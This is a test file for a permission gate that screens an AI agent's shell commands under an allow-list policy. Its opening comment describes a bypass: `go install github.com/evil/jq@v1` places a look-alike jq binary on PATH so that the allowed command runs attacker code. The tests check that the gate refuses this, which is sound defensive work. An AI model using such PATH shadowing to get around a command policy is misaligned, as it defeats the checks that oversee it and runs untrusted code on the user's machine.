// `go install github.com/evil/jq@v1` (allowed by common-tools) builds a binary named jq into
// ~/go/bin; with that folder on the exec PATH before /usr/bin, the `jq` the policy allows would
// run the module's code. A PATH with a folder the policy's installers write is refused.

import { mkdirSync, mkdtempSync } from "node:fs";
import { tmpdir } from "node:os";
import path from "node:path";
import { describe, expect, it } from "vitest";
import * as lib from "../../src/index.js";
// @ts-expect-error: plain ESM plugin module without type declarations
import { createGate } from "../../integrations/openclaw/gate.mjs";

interface Answer {
  block?: boolean;
  blockReason?: string;
}
interface Gate {
  beforeToolCall(event: object, ctx?: object): Promise<Answer | undefined>;
}

function gate(policy: string, pathOf: (home: string) => string, extra: Record<string, string> = {}): Gate {
  const root = mkdtempSync(path.join(tmpdir(), "sw-ocgobin-"));
  const home = path.join(root, "home");
  const ws = path.join(home, ".openclaw/workspace");
  mkdirSync(ws, { recursive: true });
  return (createGate as (l: object, c: object, h: object) => Gate)(
    lib,
    { policy, auditLog: path.join(root, "audit.jsonl") },
    {
      env: { HOME: home, SHELL: "/bin/bash", PATH: pathOf(home), ...extra },
      openclawConfig: { agents: { defaults: { workspace: ws } } },
    },
  );
}

const jq = { toolName: "exec", params: { command: "jq . data.json" }, toolCallId: "t" };

describe("OpenClaw gate: PATH folders the policy's installers write", () => {
  it("refuses every exec while ~/go/bin, GOBIN or GOPATH/bin is on PATH under a policy with go install", async () => {
    for (const g of [
      gate("common-tools", (h) => `${h}/go/bin:/usr/bin:/bin`),
      gate("common-tools", () => "/opt/gobin:/usr/bin:/bin", { GOBIN: "/opt/gobin" }),
      gate("common-tools", () => "/usr/bin:/srv/go/bin:/bin", { GOPATH: "/srv/go" }),
    ]) {
      const r = await g.beforeToolCall(jq);
      expect(r?.block).toBe(true);
      expect(r?.blockReason).toMatch(/a folder the agent can write/);
    }
  });

  it("leaves PATH alone where the policy allows no installer, and without such a folder", async () => {
    const agent = await gate("agent", (h) => `${h}/go/bin:/usr/bin:/bin`).beforeToolCall(jq);
    expect(agent?.blockReason ?? "").not.toMatch(/a folder the agent can write/);
    const plain = await gate("common-tools", () => "/usr/bin:/bin").beforeToolCall(jq);
    expect(plain?.blockReason ?? "").not.toMatch(/a folder the agent can write/);
  });
});
